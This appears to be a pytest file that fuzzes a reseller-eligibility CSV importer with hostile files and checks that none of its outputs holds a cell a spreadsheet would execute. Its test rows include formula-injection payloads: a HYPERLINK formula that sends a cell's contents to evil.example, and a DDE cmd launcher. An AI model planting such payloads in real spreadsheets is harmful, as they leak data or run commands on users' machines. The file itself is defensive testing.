"""A hostile corpus for the CSV import (Partner Center's ResellerEligibility file): every
file is either refused whole with a reason (EligibilityImportError) or read, each row good or
bad with its line and reason, in every output; no cell a spreadsheet would run; memory
bounded by the file's size. Pure: no server."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc

import pytest

from services.domain.eligibility_import import (
    MAX_ROWS,
    EligibilityImportError,
    parse_eligibility_csv,
    triage,
)
from services.domain.por_rules import Registry
from services.rendering.eligibility_import import render_csv, render_json
from tests.reliability.harness import tally

HEADER = b"PartnerId,ResellerName,ResellerTenantId,IsCompliant,ErrorCodes\n"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def files() -> list[tuple[str, bytes]]:
    rows = [
        b'=HYPERLINK("https://evil.example/?"&A1),x,y,True,\n',
        b"1000001,\"=cmd|' /C calc'!A0\",@SUM(1),True,\n",
        b"1000002,+1+1,-2,False,900400\n",
        b'1000003,"\t=1","\r=2",True,\n',
        b"1000004,x,y,TRUE,\n",
        b"1000004,again,y,True,\n",  # repeated
        b"1000005,x,y,perhaps,\n",
        b"1000006,x,y,False,\n",  # False without codes
        b"1000007,x,y,True,900400\n",  # True with codes
        b'1000008,x,y,False,"900400,abc"\n',
        b"1000009,x,y,False,99999999999\n",  # a code over 9 digits
        b"1000010,x,y\n",  # too few fields
        b"1000011,x,y,True,,extra,extra\n",  # too many
        "١٢٣٤٥٦٧,arabic digits,y,True,\n".encode(),
        "１２３４５６７,full width,y,True,\n".encode(),
        b"12 34567,space inside,y,True,\n",
        b"00000,zeros,y,True,\n",
        b"\x00\x00\x00,nul,y,True,\n",
        "1000012,\u202eevil,y,True,\n".encode(),
        b",,,,\n",  # empty fields only: skipped without a word
        b"\n\n\n",
    ]
    many = HEADER + b"".join(f"{1_000_000 + n},r,t,True,\n".encode() for n in range(50_000))
    return [
        ("hostile rows", HEADER + b"".join(rows)),
        ("empty", b""),
        ("only a BOM", b"\xef\xbb\xbf"),
        ("header only", HEADER),
        ("UTF-16", "PartnerId,IsCompliant,ErrorCodes\n".encode("utf-16")),
        ("Latin-1", HEADER + "1000001,Müller,y,True,\n".encode("latin-1")),
        ("binary", bytes(range(256)) * 40),
        ("no required column", b"Name,Other\nx,y\n"),
        ("required column twice", b"PartnerId,PartnerId,IsCompliant,ErrorCodes\n1,1,True,\n"),
        ("semicolon separated", b"PartnerId;IsCompliant;ErrorCodes\n1000001;True;\n"),
        ("unterminated quote", HEADER + b'1000001,"never closed,y,True,\n'),
        ("a field of 2 MB", HEADER + b"1000001," + b"x" * 2_000_000 + b",y,True,\n"),
        ("a header of 10000 columns", b",".join(b"c%d" % i for i in range(10_000)) + b"\n"),
        ("50000 good rows", many),
        ("CR line ends", HEADER.replace(b"\n", b"\r") + b"1000001,x,y,True,\r"),
        ("NUL in the header", b"Partner\x00Id,IsCompliant,ErrorCodes\n1000001,True,\n"),
    ]


def test_a_file_of_more_rows_than_any_distributor_has_is_refused_whole():
    data = HEADER + b"1000001,r,t,True,\n" * (MAX_ROWS + 1)
    with pytest.raises(EligibilityImportError, match=f"more than {MAX_ROWS} rows"):
        parse_eligibility_csv(data)


@pytest.mark.parametrize(("label", "data"), files(), ids=[f[0] for f in files()])
def test_every_hostile_file_is_refused_whole_or_read_row_by_row(label, data):
    tracemalloc.start()
    try:
        try:
            parsed = parse_eligibility_csv(data)
        except EligibilityImportError as exc:
            assert str(exc)  # a reason, for a person
            return
        rows = triage(parsed.rows, "dist-eu-1", Registry(), {})
        out = render_csv(rows, parsed.bad_rows)
        document = json.loads(render_json(parsed, rows))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Memory in proportion to the file: its bytes and its rows (at most MAX_ROWS of them).
    assert peak < 8_000_000 + 40 * len(data) + 5_000 * parsed.rows_read, (label, peak)
    table = list(csv.DictReader(io.StringIO(out)))
    # Every row read, good or bad, in every output, by its line.
    assert len(table) == parsed.rows_read == len(document["rows"]) + len(document["badRows"])
    assert [int(t["Line"]) for t in table] == sorted(
        [r.imported.line for r in rows] + [b.line for b in parsed.bad_rows]
    )
    for t in table:
        if t["Agreement"] == "bad":
            assert t["Problem"], t
        for value in t.values():
            assert not (value or "").startswith(FORMULA), (label, t)


def test_the_hostile_rows_are_each_reported_with_their_reason():
    parsed = parse_eligibility_csv(files()[0][1])
    reasons = {b.partner_id: b.reason for b in parsed.bad_rows}
    assert "not a PLA id" in reasons['=HYPERLINK("https://evil.example/?"&A1)']
    assert "already on line" in reasons["1000004"]
    assert "IsCompliant 'perhaps'" in reasons["1000005"]
    assert "field(s) where the header has" in reasons["1000010"]
    assert "not a PLA id" in reasons["١٢٣٤٥٦٧"]
    assert len(parsed.rows) == 6  # 1000001-1000004, 00000 (5 digits) and 1000012
    tally(**{"hostile corpus: CSV import (files)": len(files())})
    tally(**{"hostile corpus: CSV import (hostile rows)": parsed.rows_read})
